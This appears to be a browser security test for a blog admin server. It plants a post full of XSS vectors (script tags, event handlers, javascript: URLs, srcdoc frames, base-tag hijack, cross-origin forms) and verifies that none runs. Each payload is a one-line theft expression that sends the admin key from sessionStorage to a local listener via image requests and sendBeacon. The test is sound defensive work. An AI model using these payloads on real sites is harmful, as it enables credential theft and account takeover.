// A post that attacks who reads it in the tab of the desk, on the companion server's own origin: the key that the tab holds
// neither leaves it nor is used, while the page's own search works.
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { dirname, join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect, onTestFinished, test } from 'vitest';
import { adminKeyOf, launchChromium, signIn } from '../helpers/desk-browser.ts';
import { eventually } from '../helpers/eventually.ts';
import { type Serving, serve } from '../helpers/serve.ts';
import { temporaryFolder } from '../helpers/temporary-folder.ts';
import { missing } from '../matrix/program.ts';

const reason = missing('chromium', 'apt-get install chromium');

type Receiver = { readonly origin: string; readonly asked: string[] };

/** It ends a test that hangs. */
const WAIT_MS = Number(process.env.PREPRESS_TEST_WAIT_MS ?? 300_000);

/** Where the attacker listens. */
const startReceiver = async (): Promise<Receiver> => {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => {
      body += chunk;
    });
    request.on('end', () => {
      asked.push(`${request.method} ${request.url} ${body}`.trim());
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'image/gif' });
      response.end();
    });
  });
  await new Promise<void>((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  onTestFinished(() => void server.close());
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
};

/** One expression, without double quotation marks. */
const theft = (origin: string, by: string): string =>
  `document.documentElement.dataset.ran='${by}';new Image().src='${origin}/${by}?'+sessionStorage['prepress-admin-key'];` +
  `fetch('/admin/site/').then(()=>navigator.sendBeacon('${origin}/${by}',JSON.stringify(sessionStorage)))`;

/** Addresses are whole: those of a text are brought below the site's, which may be another origin. */
const attackOf = (origin: string, desk: string): string => {
  const run = (by: string): string => theft(origin, by);
  return `<script>${run('inline')}</script>
<script src="${desk}/content/files/x.js"></script><script type="module" src="${desk}/content/files/x.js"></script>
<script src="${desk}/assets/../content/files/x.js"></script><script src="${desk}/desk/desk.js"></script>
<script type="module" src="${desk}/desk/desk.js"></script><script src="${origin}/x.js"></script>
<script src="data:text/javascript,${encodeURIComponent(run('data'))}"></script>
<img src="${desk}/none.png" onerror="${run('onerror')}"><svg onload="${run('onload')}"></svg>
<details open ontoggle="${run('ontoggle')}"></details><input autofocus onfocus="${run('onfocus')}">
<iframe src="${desk}/desk/"></iframe><iframe srcdoc="<script>${run('srcdoc')}</script>"></iframe>
<iframe src="javascript:${run('frame')}"></iframe><object data="${desk}/content/files/x.html"></object>
<embed src="${desk}/content/images/x.svg"><link rel="import" href="${desk}/content/files/x.html">
<meta http-equiv="refresh" content="0;url=javascript:${run('refresh')}">
<a id="link" href="javascript:${run('link')}">Read on</a>
<form action="${origin}/form" method="post"><input name="typed" value="key"><button id="send">Send</button></form>
<form action="${desk}/hooks/build/token" method="post"><button id="own">Send</button></form>
<img src="${origin}/shown">`;
};

const putFiles = ({ folder }: Serving, origin: string): void => {
  const script = theft(origin, 'file');
  const files = {
    'files/x.js': script,
    'files/x.html': `<!DOCTYPE html><title>x</title><script>${script}</script><p>Shown</p>`,
    'images/x.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>${script}</script><text>Shown</text></svg>`,
  };
  for (const [name, text] of Object.entries(files)) {
    const file = join(folder, 'output/content', name);
    mkdirSync(dirname(file), { recursive: true });
    writeFileSync(file, text);
  }
};

const ranIn = (page: Page): Promise<string | null> =>
  page.locator(':root').getAttribute('data-ran');

describe.skipIf(reason !== null)(`a hostile post ${reason ?? ''}`, () => {
  const browser = launchChromium();

  const openTab = async (): Promise<{ page: Page; context: BrowserContext }> => {
    const context = await browser().newContext();
    onTestFinished(() => context.close());
    return { page: await context.newPage(), context };
  };

  test('reads no key and acts with none, in the tab of the desk', async () => {
    const receiver = await startReceiver();
    const serving = await serve(temporaryFolder(), { args: ['--sample'] });
    putFiles(serving, receiver.origin);
    const html = `<!--kg-card-begin: html-->${attackOf(receiver.origin, serving.url)}<!--kg-card-end: html-->`;
    const post = {
      ...{ title: 'Hostile', slug: 'hostile', status: 'published', html },
      codeinjection_head: `<base href="${receiver.origin}/"><script>${theft(receiver.origin, 'head')}</script>`,
      codeinjection_foot: `<script>${theft(receiver.origin, 'foot')}</script>`,
    };
    await serving.admin('POST', '/posts/?source=html', { posts: [post] });
    await eventually(async () => expect((await serving.get('/hostile/')).status).toBe(200));
    expect(await (await serving.get('/hostile/')).text()).toContain(
      `src="${receiver.origin}/shown"`,
    );

    const { page } = await openTab();
    const asked: string[] = [];
    page.setDefaultTimeout(WAIT_MS);
    await signIn(page, serving);
    page.on('request', (request) => {
      if (/\/(?:admin|hooks)\//.test(request.url())) asked.push(request.url());
    });
    await page.goto(`${serving.url}/hostile/`, { waitUntil: 'load' });
    await page.getByRole('button', { name: 'Search' }).click();
    await page.getByRole('searchbox').fill('foghorn');
    await page.locator('dialog.search li a').first().waitFor();
    await page.getByRole('button', { name: 'Close the search' }).click();
    await page.getByRole('dialog').waitFor({ state: 'hidden' });
    const kept = await page.evaluate("sessionStorage['prepress-admin-key']");
    expect(kept).toBe(adminKeyOf(serving));
    expect(await ranIn(page)).toBe(null);
    expect(await page.evaluate('document.baseURI')).toBe(`${serving.url}/hostile/`);
    await page.getByText('are left out here').waitFor();
    for (const [id, refusal] of [
      ['#link', /javascript:/i],
      ['#send', /form-action/],
      ['#own', /form-action/],
    ] as const) {
      const refused = page.waitForEvent('console', (message) => refusal.test(message.text()));
      await page.locator(id).dispatchEvent('click');
      await refused;
    }
    expect(await ranIn(page)).toBe(null);

    for (const path of ['/content/files/x.html', '/content/images/x.svg']) {
      await page.goto(`${serving.url}${path}`);
      await page.getByText('Shown').waitFor();
      expect([path, await ranIn(page)]).toEqual([path, null]);
    }
    expect(asked).toEqual([]);
    expect(receiver.asked).toEqual(['GET /shown']);
  });
});
